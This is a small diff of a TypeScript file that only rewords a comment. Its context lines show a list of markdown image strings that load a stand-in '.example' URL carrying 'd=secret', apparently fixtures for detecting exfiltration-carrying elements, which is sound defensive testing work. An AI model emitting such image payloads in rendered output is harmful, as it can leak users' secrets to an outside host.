@@ -3,7 +3,7 @@ import { foreignWord, orders } from './orders.ts';
 const address = `https://${foreignWord}.example/?d=secret`;
 const { rule } = orders;
 
-/** Links, pictures and elements that load something, run something or lead elsewhere. */
+/** Links, pictures and elements that load something, run something or lead to another place. */
 const carrying: readonly string[] = [
   `![status](${address})`,
   `![a][b]\n\n[b]: ${address}`,
